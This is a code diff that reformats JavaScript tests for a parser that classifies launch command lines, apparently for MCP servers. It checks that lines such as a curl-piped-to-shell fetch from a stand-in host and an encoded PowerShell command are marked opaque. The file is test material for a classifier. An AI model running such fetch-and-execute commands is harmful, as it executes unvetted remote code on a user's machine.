@@ -70,14 +70,16 @@ describe("what is started, whatever starts it", () => {
     expect({ kind: found.kind, name: found.name, spec: found.spec, pin: found.pin }).toEqual({ kind, name, spec, pin });
   });
 
-  test.each(["sh -c 'npm i; node x.js'", "bash -c 'curl https://x.example.test | sh'", "powershell -EncodedCommand QUJD", "node -e 'require(1)'"])(
-    "stays opaque: %s",
-    (line) => {
-      const found = of(line);
-      expect(found.kind).toBe("unknown");
-      expect(found.opaque).toBeDefined();
-    },
-  );
+  test.each([
+    "sh -c 'npm i; node x.js'",
+    "bash -c 'curl https://x.example.test | sh'",
+    "powershell -EncodedCommand QUJD",
+    "node -e 'require(1)'",
+  ])("stays opaque: %s", (line) => {
+    const found = of(line);
+    expect(found.kind).toBe("unknown");
+    expect(found.opaque).toBeDefined();
+  });
 
   test("hands on what launchers say of environment, headers and arguments", () => {
     const found = of("env A=1 docker run -i --rm -e B=2 --env=C=3 -e D acme/tool:1.0.0 --read-only");
@@ -120,6 +122,29 @@ describe("remote servers", () => {
 });
 
 test("any argument vector gets an answer", () => {
-  const words = fc.constantFrom("npx", "sh", "-c", "env", "docker", "run", "--", "-p", "uvx", "--from", "cmd", "/c", "sudo", "", "a b", "x@y", "-", "mcp-remote", "npx npx");
-  fc.assert(fc.property(fc.array(words, { maxLength: 30 }), (launch) => typeof identify({ ...NOTHING, launch }).name === "string"), { seed: 1 });
+  const words = fc.constantFrom(
+    "npx",
+    "sh",
+    "-c",
+    "env",
+    "docker",
+    "run",
+    "--",
+    "-p",
+    "uvx",
+    "--from",
+    "cmd",
+    "/c",
+    "sudo",
+    "",
+    "a b",
+    "x@y",
+    "-",
+    "mcp-remote",
+    "npx npx",
+  );
+  fc.assert(
+    fc.property(fc.array(words, { maxLength: 30 }), (launch) => typeof identify({ ...NOTHING, launch }).name === "string"),
+    { seed: 1 },
+  );
 });
